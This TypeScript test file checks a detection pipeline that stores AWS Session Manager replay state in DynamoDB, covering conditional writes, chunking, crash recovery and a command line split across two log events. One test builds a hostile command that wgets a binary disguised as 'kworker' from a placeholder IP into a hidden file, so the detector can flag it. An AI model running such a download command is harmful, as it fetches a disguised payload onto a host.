import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import {
  type AttributeValue,
  DeleteItemCommand,
  type DynamoDBClient,
  GetItemCommand,
  PutItemCommand,
} from '@aws-sdk/client-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEngine, type Engine } from '../../../detectors/index.js';
import type { Alert } from '../../../forwarder/alerts/alert.js';
import { buildAlert } from '../../../forwarder/alerts/build.js';
import { type SessionGroup, sessionEventsOf } from '../../../forwarder/lambda/subscription.js';
import { stampOf } from '../../../forwarder/stream/event-buffer.js';
import { processSessionEvents, stateKey } from '../../../forwarder/stream/process-session.js';
import {
  emptyReplayState,
  type ReplayedCommand,
  replayDelivery,
  type SessionEvent,
} from '../../../forwarder/stream/session-replay.js';
import {
  DynamoDbSessionStateStore,
  MemorySessionStateStore,
  type SessionStateItem,
  type SessionStateStore,
  StateTooLargeError,
} from '../../../forwarder/stream/state-store.js';
import type { SubscriptionPayload } from '../../../forwarder/transcript/log-events.js';
import { fixturesDir, sessionsDir } from '../../helpers/paths.js';
import { startDynamoDb } from '../sinks/helpers/emulators.js';
import { longStreamGroup } from './helpers.js';

/**
 * The streaming path's per-session state in DynamoDB (dynalite): conditional writes keep concurrent and retried
 * deliveries from losing or doubling anything, and a command cut across two log events is still whole.
 */
let db: Awaited<ReturnType<typeof startDynamoDb>>;
let engine: Engine;
let table = 0;

beforeAll(async () => {
  db = await startDynamoDb();
  engine = createEngine({
    iocTexts: [{ name: 'iocs.txt', text: readFileSync(join(fixturesDir, 'iocs.txt'), 'utf8') }],
  }).engine;
});

afterAll(async () => {
  await db?.close();
});

const NOW = () => Date.parse('2026-10-06T23:00:00Z');

async function newStore(now = NOW) {
  const name = `state-${++table}`;
  await db.createTable(name);
  return { store: new DynamoDbSessionStateStore(db.client, name, 7 * 86_400, now), name };
}

/** Another process's store on the same table (another Lambda instance): it has written nothing itself. */
const otherInstance = (name: string, now = NOW) => new DynamoDbSessionStateStore(db.client, name, 7 * 86_400, now);

/** The stream groups of a fixture session's subscription deliveries, one log event a delivery. */
function streamEvents(sid: string): SessionEvent[] {
  const deliveries = JSON.parse(readFileSync(join(sessionsDir, `${sid}.subscription.json`), 'utf8')) as {
    awslogs: { data: string };
  }[];
  return deliveries.flatMap((d) => {
    const payload = JSON.parse(gunzipSync(Buffer.from(d.awslogs.data, 'base64')).toString()) as SubscriptionPayload;
    return sessionEventsOf(payload, () => {}).flatMap((g: SessionGroup) => (g.kind === 'stream' ? g.events : []));
  });
}

/** Records what reaches delivery: every alert, and each id only once or the test fails. */
function recordingDeps(store: SessionStateStore) {
  const delivered: Alert[] = [];
  const deps = {
    engine,
    states: store,
    alertsFor: async (commands: readonly ReplayedCommand[]) =>
      commands.flatMap((c) => c.detections.map((d) => buildAlert(d, c.record, c.session, null))),
    deliver: async (alerts: readonly Alert[]) => {
      delivered.push(...alerts);
    },
  };
  return { deps, delivered };
}

const idsOf = (alerts: Alert[]) => alerts.map((a) => a.id).sort();
const MALLORY = 'mallory-09f8e7d6c5b4a3921';
const SPLIT = 'mallory-0a1b2c3d4e5f60718';

describe('DynamoDbSessionStateStore', () => {
  const item = (n: number): SessionStateItem => ({
    replay: {
      kind: 'stream',
      sessionId: MALLORY,
      base: null,
      buffer: [],
      foldedIds: [`e${n}`],
      foldedUpTo: null,
      ended: false,
    },
    alerted: [],
    outbox: [],
  });

  it('keeps a value written once (a continuation state): a retried write leaves the first, either store', async () => {
    const { store } = await newStore();
    for (const s of [store, new MemorySessionStateStore()]) {
      expect(await s.getValue('continuation#b/k.log##1')).toBeNull();
      await s.putOnce('continuation#b/k.log##1', { offset: 1, text: 'é\u001b[0m' });
      await s.putOnce('continuation#b/k.log##1', { offset: 2 });
      expect(await s.getValue('continuation#b/k.log##1')).toEqual({ offset: 1, text: 'é\u001b[0m' });
    }
  });

  it('writes only over the version it read, with a TTL, gzipped', async () => {
    const { store, name } = await newStore();
    expect(await store.put('s', item(1), null)).toBe(true);
    expect(await store.put('s', item(2), null)).toBe(false); // someone created it first
    expect(await store.put('s', item(2), 1)).toBe(true);
    expect(await store.put('s', item(3), 1)).toBe(false); // stale: version 2 is stored
    const got = await store.get('s');
    expect(got).toEqual({ item: item(2), version: 2 });
    const raw = await db.client.send(new GetItemCommand({ TableName: name, Key: { pk: { S: 's' } } }));
    expect(Number(raw.Item?.expiresAt?.N)).toBe(Date.parse('2026-10-06T23:00:00Z') / 1000 + 7 * 86_400);
    expect(raw.Item?.state?.B?.[0]).toBe(0x1f); // gzip
  });

  it('writes each buffered chunk once, in its own item, and gives the events back as they were', async () => {
    const { name } = await newStore();
    const written: string[] = [];
    const counting = {
      send: (command: { input: { Item?: Record<string, AttributeValue> } }) => {
        if (command instanceof PutItemCommand) written.push(command.input.Item!.pk!.S!);
        return db.client.send(command as PutItemCommand);
      },
    } as unknown as Pick<DynamoDBClient, 'send'>;
    const store = new DynamoDbSessionStateStore(counting, name, 7 * 86_400, NOW);
    const events = streamEvents(MALLORY);
    const { deps } = recordingDeps(store);
    for (const e of events) await processSessionEvents('stream', MALLORY, [e], deps);

    const key = stateKey('stream', MALLORY);
    const chunkWrites = written.filter((k) => k.startsWith(`${key}#chunk#`));
    expect(chunkWrites.length).toBe(events.length); // one chunk a delivery, written once
    expect(new Set(chunkWrites).size).toBe(events.length);
    const raw = await db.client.send(new GetItemCommand({ TableName: name, Key: { pk: { S: key } } }));
    expect(raw.Item?.chunks?.L?.map((c) => c.S)).toEqual(chunkWrites); // named, in order
    expect(raw.Item?.events).toBeUndefined();

    const saved = await otherInstance(name).get(key);
    const buffered = saved!.item.replay.buffer.flatMap((c) => c.events());
    expect(buffered.map((e) => e.id)).toEqual(events.map((e) => e.id));
    expect(buffered).toEqual(events);
  });

  it("writes a long session's fold state (base, mid, folded ids) only when a fold changes it, and reads it back", async () => {
    const { name } = await newStore();
    const partWrites: string[] = [];
    const counting = {
      send: (command: { input: { Item?: Record<string, AttributeValue> } }) => {
        const key = command instanceof PutItemCommand ? command.input.Item!.pk!.S! : '';
        if (key.includes('#part#')) partWrites.push(key);
        return db.client.send(command as PutItemCommand);
      },
    } as unknown as Pick<DynamoDBClient, 'send'>;
    const store = new DynamoDbSessionStateStore(counting, name, 7 * 86_400, NOW);
    const group = longStreamGroup();
    const limits = { maxEvents: 4, maxChars: 512 * 1024 };
    let state = emptyReplayState('stream', group.sessionId);
    let version: number | null = null;
    const folds = new Set<string>();
    for (const e of group.events) {
      state = replayDelivery(state, [e], engine, limits).state;
      folds.add(JSON.stringify([state.base, state.mid, state.foldedIds]));
      expect(await store.put('long', { replay: state, alerted: [], outbox: [] }, version)).toBe(true);
      version = (version ?? 0) + 1;
    }
    // one write per new value of a large part, a small fraction of the deliveries
    expect(partWrites.length).toBeGreaterThan(0);
    expect(partWrites.length).toBeLessThanOrEqual(3 * folds.size);
    expect(new Set(partWrites).size).toBe(partWrites.length);
    expect(folds.size).toBeLessThan(group.events.length / 2);
    const raw = await db.client.send(new GetItemCommand({ TableName: name, Key: { pk: { S: 'long' } } }));
    expect(JSON.parse(gunzipSync(raw.Item!.state!.B!).toString()).replay.base).toHaveProperty('$part');

    const read = await otherInstance(name).get('long');
    const { buffer, ...rest } = read!.item.replay;
    const { buffer: wrote, ...expected } = state;
    expect(rest).toEqual(expected);
    expect(buffer.flatMap((c) => c.events())).toEqual(wrote.flatMap((c) => c.events()));
    // and the session goes on from what was read as from what was written
    const next = group.events.at(-1)!;
    const later = { ...next, id: `${next.id}-later`, timestamp: next.timestamp + 1000 };
    expect(replayDelivery(read!.item.replay, [later], engine, limits).state.head).toEqual(
      replayDelivery(state, [later], engine, limits).state.head,
    );
  });

  it('reads a state whose chunk item is gone (expired) with that chunk empty, the rest intact', async () => {
    const { store, name } = await newStore();
    const events = streamEvents(MALLORY);
    const { deps } = recordingDeps(store);
    for (const e of events) await processSessionEvents('stream', MALLORY, [e], deps);
    const key = stateKey('stream', MALLORY);
    const raw = await db.client.send(new GetItemCommand({ TableName: name, Key: { pk: { S: key } } }));
    const gone = raw.Item!.chunks!.L![1]!.S!;
    await db.client.send(new DeleteItemCommand({ TableName: name, Key: { pk: { S: gone } } }));
    const read = await otherInstance(name).get(key);
    expect(read!.item.replay.buffer.map((c) => c.events().length)).toEqual(events.map((_, i) => (i === 1 ? 0 : 1)));
  });

  it('reads a state written with its chunks inline (before they had items) and moves them out on its next write', async () => {
    const { store, name } = await newStore();
    const events = streamEvents(MALLORY).slice(0, 3);
    // the item as the store wrote it then: the state's JSON with each chunk's stamps, each chunk's events inline
    const meta = { ...item(1), replay: { ...item(1).replay, buffer: events.map((e) => [stampOf(e)]) } };
    await db.client.send(
      new PutItemCommand({
        TableName: name,
        Item: {
          pk: { S: 's' },
          state: { B: gzipSync(JSON.stringify(meta)) },
          events: { L: events.map((e) => ({ B: gzipSync(JSON.stringify([e])) })) },
          version: { N: '4' },
          expiresAt: { N: '9999999999' },
        },
      }),
    );
    const read = await store.get('s');
    expect(read?.version).toBe(4);
    expect(read!.item.replay.buffer.flatMap((c) => c.events())).toEqual(events);
    expect(await store.put('s', read!.item, 4)).toBe(true);
    const raw = await db.client.send(new GetItemCommand({ TableName: name, Key: { pk: { S: 's' } } }));
    expect(raw.Item?.chunks?.L).toHaveLength(3);
    const again = await otherInstance(name).get('s');
    expect(again!.item.replay.buffer.flatMap((c) => c.events())).toEqual(events);
  });

  it('takes back the state it last wrote or read without reading the table; a put over it fails once the table moved on', async () => {
    const { name } = await newStore();
    let reads = 0;
    const counting = {
      send: (command: GetItemCommand | PutItemCommand) => {
        if (command instanceof GetItemCommand) reads++;
        return db.client.send(command as PutItemCommand);
      },
    } as unknown as Pick<DynamoDBClient, 'send'>;
    const store = new DynamoDbSessionStateStore(counting, name, 7 * 86_400, NOW);
    const mine = item(1);
    expect(await store.put('s', mine, null)).toBe(true);
    expect((await store.get('s'))?.item).toBe(mine); // the object written: nothing read, nothing decoded
    expect(reads).toBe(0);

    const other = otherInstance(name);
    const read = await other.get('s');
    expect(read?.item).not.toBe(mine);
    expect(read).toEqual({ item: mine, version: 1 });
    expect(await other.put('s', item(2), 1)).toBe(true);
    // this instance still offers what it wrote; writing over it fails, and the next get reads the newer version
    expect(await store.get('s')).toEqual({ item: item(1), version: 1 });
    expect(await store.put('s', item(9), 1)).toBe(false);
    expect(await store.get('s')).toEqual({ item: item(2), version: 2 });
    expect(reads).toBe(1);
    expect(await store.put('s', item(3), 2)).toBe(true); // over the version it read

    // the item expires and another instance starts the session's state again, up to the version this one wrote
    await db.client.send(new DeleteItemCommand({ TableName: name, Key: { pk: { S: 's' } } }));
    const later = otherInstance(name, () => NOW() + 8 * 86_400_000);
    for (let n = 4, version: number | null = null; n <= 6; n++, version = (version ?? 0) + 1) {
      expect(await later.put('s', item(n), version)).toBe(true);
    }
    // same version (3), another write: the TTL stamp tells them apart, so this instance's put fails and it reads again
    expect(await store.put('s', item(7), 3)).toBe(false);
    expect(await store.get('s')).toEqual({ item: item(6), version: 3 });
  });

  it('refuses a state DynamoDB could not hold', async () => {
    const { store } = await newStore();
    const big = item(1);
    // random text does not compress: well over 350 KB gzipped
    big.replay.foldedIds = [randomBytes(600 * 1024).toString('base64')];
    await expect(store.put('s', big, null)).rejects.toBeInstanceOf(StateTooLargeError);
  });
});

describe('processSessionEvents with the state in DynamoDB', () => {
  it('concurrent deliveries of one session lose nothing and double nothing', async () => {
    const events = streamEvents(MALLORY);
    const sequential = await newStore();
    const inOrder = recordingDeps(sequential.store);
    for (const e of events) await processSessionEvents('stream', MALLORY, [e], inOrder.deps);
    expect(inOrder.delivered.length).toBeGreaterThan(0);

    const concurrent = await newStore();
    const racing = recordingDeps(concurrent.store);
    // every event twice, all at once: the conditional writes make the losers redo their work on the newer state
    await Promise.all([...events, ...events].map((e) => processSessionEvents('stream', MALLORY, [e], racing.deps)));
    expect(idsOf(racing.delivered)).toEqual(idsOf(inOrder.delivered));
    const saved = await concurrent.store.get(stateKey('stream', MALLORY));
    expect(saved?.item.outbox).toEqual([]);
    expect(new Set(saved?.item.alerted)).toEqual(new Set(idsOf(inOrder.delivered)));
  });

  it('a crash between saving and delivering loses no alert: the next invocation delivers the outbox', async () => {
    const events = streamEvents(MALLORY);
    const { store } = await newStore();
    const { deps, delivered } = recordingDeps(store);
    let crashes = 1;
    const crashing = {
      ...deps,
      deliver: async (alerts: readonly Alert[]) => {
        if (crashes-- > 0) throw new Error('Task timed out after 300.00 seconds');
        await deps.deliver(alerts);
      },
    };
    await expect(processSessionEvents('stream', MALLORY, events, crashing)).rejects.toThrow(/timed out/);
    expect(delivered).toEqual([]);
    // Lambda retries the same delivery
    await processSessionEvents('stream', MALLORY, events, crashing);
    const reference = recordingDeps((await newStore()).store);
    await processSessionEvents('stream', MALLORY, events, reference.deps);
    expect(idsOf(delivered)).toEqual(idsOf(reference.delivered));
  });

  it('joins a command line the agent cut across two log events, in either delivery order', async () => {
    // the agent reads at most 33,000 bytes a line: a longer one arrives in pieces, each alone in its event
    const cut = 33_000;
    const head = "sh-5.2$ echo '";
    const tail = "' >/dev/null; wget -q http://203.0.11";
    const line = `${head}${'x'.repeat(cut - head.length - tail.length)}${tail}3.66/x86_64/kworker -O .kw`;
    const command = line.slice('sh-5.2$ '.length);
    const message = (eventTime: string, sessionData: string[]) =>
      JSON.stringify({
        eventVersion: '1.0',
        eventTime,
        awsRegion: 'us-east-1',
        target: { id: 'i-0f1e2d3c4b5a69788' },
        userIdentity: { arn: 'arn:aws:iam::444455556666:user/mallory' },
        runAsUser: 'ssm-user',
        sessionId: SPLIT,
        sessionData,
      });
    const payload: SubscriptionPayload = {
      messageType: 'DATA_MESSAGE',
      owner: '444455556666',
      logGroup: 'session_manager_logs',
      logStream: SPLIT,
      logEvents: [
        {
          id: '1',
          timestamp: Date.parse('2026-10-06T22:50:00Z'),
          message: message('2026-10-06T22:50:00Z', [line.slice(0, cut)]),
        },
        {
          id: '2',
          timestamp: Date.parse('2026-10-06T22:50:01Z'),
          message: message('2026-10-06T22:50:01Z', [line.slice(cut), 'sh-5.2$ exit', 'exit']),
        },
      ],
    };
    const [first, second] = sessionEventsOf(payload, () => {})[0]!.events;
    expect(first!.endsMidLine).toBe(true);

    for (const order of [
      [first!, second!],
      [second!, first!],
    ]) {
      const { deps, delivered } = recordingDeps((await newStore()).store);
      const records: string[] = [];
      for (const e of order)
        records.push(...(await processSessionEvents('stream', SPLIT, [e], deps)).records.map((r) => r.command));
      expect(records[0]).toBe(command);
      expect(delivered.length).toBeGreaterThan(0);
      for (const a of delivered) expect(a.command).toBe(command);
      expect(delivered.some((a) => a.evidence.some((ev) => ev.value.includes('203.0.113.66')))).toBe(true);
    }
  });
});
